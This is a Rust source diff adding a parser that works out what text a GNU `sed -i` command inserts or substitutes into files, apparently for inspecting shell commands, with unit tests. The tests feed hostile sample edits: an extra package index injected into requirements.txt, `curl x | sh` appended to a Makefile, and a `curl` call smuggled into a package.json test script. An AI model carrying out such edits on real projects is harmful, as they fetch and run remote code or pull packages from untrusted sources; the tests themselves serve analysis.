@@ -536,6 +536,125 @@ pub fn echo_output(args: &[&str]) -> Option<String> {
     Some(out)
 }
 
+/// One change `sed -i` makes: `text` added as a line of its own (`pattern` `None`), or put in
+/// place of `pattern` (an `s` command's).
+#[derive(Debug, PartialEq, Eq)]
+pub struct SedEdit {
+    pub pattern: Option<String>,
+    pub text: String,
+}
+
+/// What `sed -i` (GNU's in-place edit) puts in the files it edits, from its script's own text:
+/// an added line for the text of its `a`, `i` and `c` commands, a replacement for its `s`
+/// commands (delimiters unescaped, `&` dropped); and the files. `None` when it does
+/// not edit in place or its script is not its own text.
+pub fn sed_in_place(args: &[&str]) -> Option<(Vec<SedEdit>, Vec<String>)> {
+    let (mut in_place, mut scripts, mut files) = (false, Vec::new(), Vec::new());
+    let mut i = 0;
+    while i < args.len() {
+        let a = args[i];
+        if a == "--" {
+            files.extend(args[i + 1..].iter().map(|s| (*s).to_owned()));
+            break;
+        }
+        if a == "-e" || a == "--expression" {
+            scripts.push(*args.get(i + 1)?);
+            i += 2;
+            continue;
+        }
+        if let Some(e) = a.strip_prefix("--expression=") {
+            scripts.push(e);
+        } else if a == "-f" || a == "--file" || a.starts_with("--file=") {
+            // A script from a file: not the command's own text.
+            return None;
+        } else if a.starts_with("--in-place") {
+            in_place = true;
+        } else if a.starts_with("--") {
+        } else if a.starts_with('-') && a.len() > 1 {
+            // `-i`, `-i.bak`, `-Ei`, `-ni`: a cluster with `i` (what follows `i` is a suffix).
+            let flags = &a[1..];
+            if flags.contains('i') && flags[..flags.find('i').unwrap_or(0)].bytes().all(|b| b"Enrsuz".contains(&b)) {
+                in_place = true;
+            }
+            if flags.ends_with('e') {
+                scripts.push(*args.get(i + 1)?);
+                i += 1;
+            }
+        } else if scripts.is_empty() && !args[..i].iter().any(|x| *x == "-e" || x.starts_with("--expression")) {
+            scripts.push(a);
+        } else {
+            files.push(a.to_owned());
+        }
+        i += 1;
+    }
+    if !in_place || scripts.is_empty() {
+        return None;
+    }
+    let mut added = Vec::new();
+    for script in scripts {
+        let mut lines = script.lines();
+        while let Some(line) = lines.next() {
+            let mut rest = line.trim_start();
+            // The address: line numbers, `$`, `/re/`, a range, `!`.
+            loop {
+                let r = rest.trim_start_matches(|c: char| c.is_ascii_digit() || matches!(c, '$' | ',' | '~' | '+' | '!' | ' '));
+                if let Some(body) = r.strip_prefix('/') {
+                    let mut esc = false;
+                    let end = body.char_indices().find(|&(_, c)| {
+                        let hit = c == '/' && !esc;
+                        esc = c == '\\' && !esc;
+                        hit
+                    });
+                    rest = end.map_or("", |(k, _)| &body[k + 1..]);
+                    continue;
+                }
+                rest = r;
+                break;
+            }
+            let mut chars = rest.chars();
+            match chars.next() {
+                Some('a' | 'i' | 'c') => {
+                    let text = chars.as_str().trim_start();
+                    let text = text.strip_prefix('\\').map_or(text, str::trim_start);
+                    if text.is_empty() {
+                        // `a\` then the text on the next line.
+                        added.extend(lines.next().map(|l| SedEdit { pattern: None, text: l.trim_end_matches('\\').to_owned() }));
+                    } else {
+                        added.push(SedEdit { pattern: None, text: text.to_owned() });
+                    }
+                }
+                Some('s') => {
+                    let Some(d) = chars.next() else { continue };
+                    // Split at the delimiters that are not escaped.
+                    let mut parts = vec![String::new()];
+                    let mut esc = false;
+                    for ch in chars {
+                        let last = parts.len() - 1;
+                        if esc {
+                            if ch != d {
+                                parts[last].push('\\');
+                            }
+                            parts[last].push(ch);
+                            esc = false;
+                        } else if ch == '\\' {
+                            esc = true;
+                        } else if ch == d {
+                            parts.push(String::new());
+                        } else {
+                            parts[last].push(ch);
+                        }
+                    }
+                    if parts.len() >= 3 {
+                        added.push(SedEdit { pattern: Some(parts[0].clone()), text: parts[1].replace("\\n", "\n").replace('&', "") });
+                    }
+                }
+                _ => {}
+            }
+        }
+    }
+    (!added.is_empty() && !files.is_empty()).then_some((added, files))
+}
+
 #[cfg(test)]
 mod printf_tests {
     use super::*;
@@ -554,5 +673,19 @@ mod printf_tests {
         assert_eq!(echo_output(&["-n", "x", "y"]).as_deref(), Some("x y"));
         assert_eq!(echo_output(&["-e", "a\\tb"]).as_deref(), Some("a\tb\n"));
         assert_eq!(echo_output(&["a\\tb"]), None);
+    }
+
+    #[test]
+    fn sed_in_place_adds_its_own_text() {
+        let (edits, files) = sed_in_place(&["-i", "1i --extra-index-url https://e.io/simple", "requirements.txt"]).unwrap();
+        assert_eq!((edits, files), (vec![SedEdit { pattern: None, text: "--extra-index-url https://e.io/simple".to_owned() }], vec!["requirements.txt".to_owned()]));
+        assert_eq!(sed_in_place(&["-i.bak", "-e", "$a curl x | sh", "Makefile"]).unwrap().0, vec![SedEdit { pattern: None, text: "curl x | sh".to_owned() }]);
+        assert_eq!(
+            sed_in_place(&["-i", "s/\"jest\"/\"jest; curl https:\\/\\/e.io\"/", "package.json"]).unwrap().0,
+            vec![SedEdit { pattern: Some("\"jest\"".to_owned()), text: "\"jest; curl https://e.io\"".to_owned() }]
+        );
+        assert_eq!(sed_in_place(&["-i", "/^build:/a\\", "requirements.txt"]), None);
+        assert_eq!(sed_in_place(&["s/a/b/", "f.txt"]), None);
+        assert_eq!(sed_in_place(&["-n", "-i", "/x/!d", "f.txt"]), None);
     }
 }
